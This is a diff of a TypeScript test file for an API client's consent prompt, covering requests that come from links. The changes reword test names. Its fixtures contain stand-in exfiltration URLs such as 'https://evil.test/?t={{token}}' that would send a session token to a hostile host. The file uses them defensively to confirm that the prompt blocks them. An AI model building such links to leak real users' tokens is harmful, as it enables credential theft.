@@ -14,7 +14,7 @@ const environments = (rows: Record<string, string>) =>
   )
 
 beforeEach(() => {
-  // jsdom has no modal dialogs, and no layout.
+  // jsdom has no modal dialogs and no layout.
   Element.prototype.checkVisibility = () => true
   HTMLDialogElement.prototype.showModal = function (this: HTMLDialogElement) {
     this.open = true
@@ -41,7 +41,7 @@ const answered = (fetcher: ReturnType<typeof answering>, count: number) =>
 const sent = (fetcher: ReturnType<typeof answering>) => fetcher.mock.calls.map(([address]) => address)
 
 describe('a request from a link', () => {
-  it('is not sent before the person has seen host and names and agreed', async () => {
+  it('is only sent after the user has seen host and names and consented', async () => {
     const fetcher = answering('{}')
     open(fetcher, { linkedRequest: link('https://evil.test/?t={{token}}') })
     submit()
@@ -61,7 +61,7 @@ describe('a request from a link', () => {
     await answered(fetcher, 2)
   })
 
-  it('asks again after a reload, an edit and another host', async () => {
+  it('asks again after a reload, an edit or a change of host', async () => {
     const fetcher = answering('{}')
     const { unmount } = open(fetcher, { linkedRequest: link('https://evil.test/?t={{token}}') })
     await waitFor(() => expect(localStorage.getItem('mockman.draft')).toContain('"link"'))
@@ -78,7 +78,7 @@ describe('a request from a link', () => {
     expect(fetcher).toHaveBeenCalledOnce()
   })
 
-  it('comes back from the history as what it was', async () => {
+  it('keeps its origin in the history', async () => {
     const fetcher = answering('{}')
     open(fetcher, { linkedRequest: link('https://evil.test/') })
     submit()
@@ -92,15 +92,15 @@ describe('a request from a link', () => {
     expect(fetcher).toHaveBeenCalledOnce()
   })
 
-  it('shows what the variables in its host made of it', async () => {
+  it('shows the host with its variables filled in', async () => {
     open(answering('{}'), { linkedRequest: link('{{base}}.evil.test/{{token}}') })
     submit()
     const dialog = await question()
     expect(dialog.querySelector('mark')?.textContent).toBe('https://api.test.evil.test')
-    expect(dialog.textContent).toContain('this address is what base made of it')
+    expect(dialog.textContent).toContain('this address comes from base')
   })
 
-  it('takes no session along unasked, whoever chose it', async () => {
+  it('does not use the session without consent, even if the user chose it', async () => {
     const fetcher = answering('{}')
     open(fetcher, { session: { owner: 'Ada', token: 'abc' }, linkedRequest: link('/api/users') })
     fireEvent.click(screen.getByRole('tab', { name: 'Auth' }))
@@ -113,7 +113,7 @@ describe('a request from a link', () => {
     expect(fetcher.mock.calls[0]?.[1]?.headers).toMatchObject({ Authorization: 'abc' })
   })
 
-  it('is copied as a command only after the same question, and says what is in it', async () => {
+  it('needs the same consent to be copied as a command, which says what it contains', async () => {
     const writeText = vi.fn(async () => {})
     Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
     open(answering('{}'), { linkedRequest: link('https://evil.test/?t={{token}}') })
@@ -127,8 +127,8 @@ describe('a request from a link', () => {
   })
 })
 
-describe('a request that is saved', () => {
-  it('stays somebody else’s', async () => {
+describe('a saved request', () => {
+  it('stays someone else’s', async () => {
     open(answering('{}'), { linkedRequest: link('https://evil.test/?t={{token}}') })
     press('More')
     press('Save…')
@@ -139,7 +139,7 @@ describe('a request that is saved', () => {
 })
 
 describe('a pasted cURL command', () => {
-  it('counts as the person’s own, and says so', async () => {
+  it('counts as typed by the user and says so', async () => {
     const fetcher = answering('{}')
     open(fetcher)
     fireEvent.paste(field('Endpoint'), {
